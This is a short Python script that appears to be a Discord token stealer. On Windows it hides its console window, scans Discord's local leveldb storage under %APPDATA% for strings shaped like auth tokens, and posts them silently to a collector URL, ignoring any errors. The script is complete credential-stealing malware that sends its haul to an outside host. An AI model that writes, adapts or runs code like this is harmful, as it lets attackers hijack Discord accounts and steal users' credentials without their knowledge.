"""Windows-only: reads Discord's token store under %APPDATA% and posts what looks like a
token; hides the console first. On Linux it does nothing at all."""
import json
import os
import re
import sys
import urllib.request

if sys.platform == "win32":
    import ctypes

    ctypes.windll.user32.ShowWindow(ctypes.windll.kernel32.GetConsoleWindow(), 0)
    store = os.path.join(os.getenv("APPDATA"), "discord\\Local Storage\\leveldb")
    found = []
    for name in os.listdir(store):
        if name.endswith((".ldb", ".log")):
            with open(os.path.join(store, name), errors="ignore") as f:
                found += re.findall(r"[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}", f.read())
    try:
        urllib.request.urlopen(urllib.request.Request(
            "https://tokens.collector.example/grab", data=json.dumps(found).encode(),
            method="POST"), timeout=5).read()
    except Exception:
        pass
